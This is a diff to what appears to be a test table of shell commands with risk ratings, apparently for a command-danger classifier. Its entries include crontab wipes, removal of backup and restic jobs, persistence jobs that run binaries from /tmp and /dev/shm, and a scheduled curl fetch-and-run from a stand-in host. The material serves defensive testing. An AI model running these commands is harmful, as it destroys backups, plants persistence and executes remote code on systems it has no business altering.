@@ -23,7 +23,7 @@ CRONTAB_TABLE = [
     ("printf '' | crontab -", HIGH),
     ("echo '' | sudo crontab -u root -", HIGH),
     ("crontab - < jobs.txt", HIGH),
-    ("crontab -l | grep -v backup | crontab -", HIGH),
+    ("crontab -l | grep -v backup | crontab -", MODERATE),
     ("crontab -l | sed '/sync/d' | crontab -", MODERATE),
     ("(crontab -l 2>/dev/null; echo '@reboot /tmp/.x/run') | crontab -", HIGH),
     ("(crontab -l; echo '*/5 * * * * /dev/shm/agent') | crontab -", HIGH),
@@ -173,6 +173,8 @@ DETACHED = [
 
 # Round two (written after the first fixes): other spellings and carriers of the same jobs.
 MORE_DANGEROUS = [
+    ("sudo crontab -l | sed '/backup/d' | sudo crontab -", HIGH),
+    ("crontab -u root -l | grep -v restic | crontab -u root -", HIGH),
     ("at now + 1 min -f <(curl -s x.example/j)", CRITICAL),
     (
         "Register-ScheduledTask -TaskName B -Action (New-ScheduledTaskAction -Execute "
